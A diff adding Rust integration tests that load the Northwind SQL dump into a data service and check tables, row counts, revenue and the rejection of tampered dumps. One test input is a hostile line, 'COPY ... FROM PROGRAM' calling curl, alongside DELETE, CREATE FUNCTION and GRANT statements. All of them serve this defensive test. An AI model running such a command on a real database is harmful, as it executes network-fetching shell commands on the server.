@@ -343,6 +343,147 @@ async fn money_and_dates_on_postgres() {
     db.cleanup().await;
 }
 
+const DUMP: &str = "../../../shared/data/northwind/northwind-postgres.sql";
+
+fn northwind_dump() -> Vec<u8> {
+    std::fs::read(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(DUMP)).unwrap()
+}
+
+async fn table_names(data: &mut DataClient<Channel>) -> Vec<String> {
+    let listed = data.list_datasets(ListDatasetsRequest {}).await.unwrap();
+    listed
+        .into_inner()
+        .datasets
+        .into_iter()
+        .map(|d| d.name)
+        .collect()
+}
+
+/// The original Northwind dump: every table stored under its own name with mapped
+/// types, rows counted, a join and the revenue exact; hostile dumps refused whole.
+async fn northwind_dump_loads(state: State, backend: &str) {
+    let agent = start_data(MockConfig::new(MODEL), state, tempfile::tempdir().unwrap()).await;
+    let (mut data, _) = clients(&agent.url).await;
+
+    for statement in [
+        "DELETE FROM orders;",
+        "COPY orders FROM PROGRAM 'curl http://example.com/x';",
+        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql;",
+        "GRANT ALL ON orders TO PUBLIC;",
+    ] {
+        let mut dump = northwind_dump();
+        dump.extend_from_slice(format!("\n{statement}\n").as_bytes());
+        let lines = dump.iter().filter(|b| **b == b'\n').count();
+        let req = LoadDumpRequest { sql: dump };
+        let status = data.load_dump(req).await.unwrap_err();
+        assert_eq!(status.code(), tonic::Code::InvalidArgument, "{statement}");
+        assert_eq!(meta(&status, "x-agentmesh-http-status"), "400");
+        assert_eq!(meta(&status, "x-agentmesh-error-param"), "dump");
+        let kind = statement.split(' ').take(2).collect::<Vec<_>>();
+        let kind = match kind[0] {
+            "CREATE" => kind.join(" "),
+            _ => kind[0].to_string(),
+        };
+        let want = format!("{kind} on line {lines} is not allowed");
+        assert!(status.message().contains(&want), "{}", status.message());
+        assert!(
+            table_names(&mut data).await.is_empty(),
+            "{statement}: stored"
+        );
+    }
+
+    let req = LoadDumpRequest {
+        sql: northwind_dump(),
+    };
+    let loaded = data.load_dump(req).await.unwrap().into_inner().datasets;
+    assert_eq!(loaded.len(), 14);
+    let orders = loaded.iter().find(|d| d.name == "orders").unwrap();
+    let types: Vec<_> = orders
+        .columns
+        .iter()
+        .map(|c| (c.name.as_str(), c.r#type.as_str()))
+        .collect();
+    assert!(types.contains(&("order_date", "date")), "{types:?}");
+    assert!(types.contains(&("freight", "decimal")), "{types:?}");
+    assert_eq!(table_names(&mut data).await.len(), 14);
+
+    let reader = data.clone();
+    let count = |sql: &'static str| {
+        let mut data = reader.clone();
+        async move { single_number(&query(&mut data, sql).await.unwrap()) }
+    };
+    assert_eq!(count("SELECT count(*) FROM orders").await, 830.0);
+    assert_eq!(count("SELECT count(*) FROM order_details").await, 2155.0);
+    let join = "SELECT c.country, count(DISTINCT o.order_id) AS orders, \
+                round(sum(d.unit_price * d.quantity * (1 - d.discount)), 2) AS revenue \
+                FROM orders o JOIN order_details d ON d.order_id = o.order_id \
+                JOIN customers c ON c.customer_id = o.customer_id \
+                WHERE o.order_date >= '1997-01-01' \
+                GROUP BY c.country ORDER BY revenue DESC, c.country LIMIT 3";
+    let top = query(&mut data, join).await.unwrap();
+    let rows = rows_of(&top);
+    assert_eq!(rows.as_array().unwrap().len(), 3, "{backend}: {rows}");
+    assert_eq!(rows[0][0], "USA", "{backend}: {rows}");
+    let revenue = if backend == "postgres" {
+        PG_REVENUE
+    } else {
+        LITE_REVENUE
+    };
+    let revenue = query(&mut data, revenue).await.unwrap();
+    assert_eq!(
+        rows_of(&revenue),
+        serde_json::json!([[1265793.04]]),
+        "{backend}"
+    );
+    if backend == "postgres" {
+        let exact = "SELECT sum(unit_price * quantity * (1 - discount))::text FROM order_details";
+        let text = rows_of(&query(&mut data, exact).await.unwrap());
+        let text = text[0][0].as_str().unwrap().to_string();
+        assert!(text.starts_with("1265793.0"), "{text}");
+        assert_eq!(
+            text.len(),
+            "1265793.0390".len(),
+            "exact to four places: {text}"
+        );
+    }
+
+    let mut bad = northwind_dump();
+    bad.extend_from_slice(b"\nINSERT INTO orders (order_id) VALUES ('x');\n");
+    let status = data
+        .load_dump(LoadDumpRequest { sql: bad })
+        .await
+        .unwrap_err();
+    assert!(
+        status.message().contains("not an integer"),
+        "{}",
+        status.message()
+    );
+    assert_eq!(
+        count("SELECT count(*) FROM orders").await,
+        830.0,
+        "left as it was"
+    );
+}
+
+#[tokio::test]
+async fn northwind_dump_on_sqlite() {
+    let (state, _dir) = sqlite_state().await;
+    northwind_dump_loads(state, "sqlite").await;
+}
+
+#[tokio::test]
+async fn northwind_dump_on_postgres() {
+    let db = testing::fresh_postgres().await;
+    let config = StateConfig {
+        database_url: db.url.clone(),
+        redis_url: None,
+        redis_prefix: testing::fresh_redis_prefix(),
+    };
+    let state = State::connect(&config).await.unwrap();
+    northwind_dump_loads(state, "postgres").await;
+    db.cleanup().await;
+}
+
 mod hostile;
 
 #[tokio::test]
